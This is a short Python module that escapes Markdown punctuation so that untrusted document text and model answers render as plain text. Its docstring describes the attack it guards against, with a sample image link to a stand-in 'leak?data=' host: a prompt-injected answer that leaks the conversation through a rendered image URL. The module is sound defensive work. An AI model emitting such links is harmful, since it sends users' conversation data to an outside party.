"""Text from documents and from the model, made inert before it goes into rendered Markdown.

A passage or an answer may contain `![x](http://host/leak?data=...)`, `<img src=...>`, a reference
image, a link or a bare URL. Rendered, an image makes every visitor's browser fetch a URL of the
author's choosing (and a prompt-injected answer can put the conversation into that URL). So
untrusted text is shown as text: every ASCII punctuation character gets a backslash, which
CommonMark defines as "this character, literally". Nothing in the result can open an image, a
link, raw HTML, an entity, code or maths; it reads exactly like the original. Newlines are kept.
The page's own Markdown (bold labels, block quotes) is written around the escaped text.
"""

from __future__ import annotations

import string

_ESCAPE = str.maketrans({ch: "\\" + ch for ch in string.punctuation})


def inert(text: str) -> str:
    """`text` as literal Markdown: shown as written, never as an image, link or HTML."""
    return str(text).translate(_ESCAPE)


def inert_line(text: str) -> str:
    """One line of literal Markdown (table cells, headings): whitespace runs become one space."""
    return inert(" ".join(str(text).split()))
